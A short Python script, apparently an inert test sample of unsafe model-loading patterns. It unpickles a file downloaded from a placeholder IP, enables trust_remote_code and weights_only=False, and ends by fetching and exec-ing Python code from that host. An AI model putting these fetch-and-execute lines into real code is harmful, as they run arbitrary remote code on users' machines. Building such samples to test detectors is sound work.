import pickle
import urllib.request

import torch
from transformers import AutoModel

urllib.request.urlretrieve("http://203.0.113.7/waag-inert.pkl", "weights.pkl")
with open("weights.pkl", "rb") as file:
    weights = pickle.load(file)
model = AutoModel.from_pretrained("waag-example/inert", trust_remote_code=True)
model.load_state_dict(torch.load("weights.pt", weights_only=False))
exec(urllib.request.urlopen("http://203.0.113.7/waag-inert.py").read())
